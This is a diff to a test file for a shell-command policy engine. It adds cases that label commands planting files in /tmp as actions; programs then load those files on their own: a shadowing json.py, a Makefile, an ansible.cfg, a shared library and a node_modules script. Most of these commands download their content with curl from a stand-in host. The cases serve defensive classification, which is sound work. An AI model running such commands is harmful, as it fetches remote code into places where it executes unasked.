@@ -53,6 +53,16 @@ ENGINE = PolicyEngine(Config())
         ("df -h > /tmp/sess_abc", "action"),  # a PHP session
         ("df -h > /tmp/ssh-XXXX/agent.1", "action"),
         ("df -h > /tmp/app.sock", "action"),
+        # a name a program loads by itself from the folder it runs in
+        ("printf 'import os' > /tmp/json.py && cd /tmp && python3 -c 'import json'", "action"),
+        ("curl -o /tmp/json.py https://e.example/x", "action"),
+        ("curl -o /tmp/Makefile https://e.example/x", "action"),
+        ("curl -o /tmp/ansible.cfg https://e.example/x", "action"),
+        ("curl -o /tmp/libx.so.1 https://e.example/x", "action"),
+        (
+            "mkdir -p /tmp/node_modules && curl -o /tmp/node_modules/x.js https://e.example/x",
+            "action",
+        ),
         ("> /tmp/x", "action"),  # nothing printed: it empties the file
         (": > /tmp/x", "action"),
         ("T=/tmp/out.txt; echo hi > $T", "action"),  # the name comes from a variable
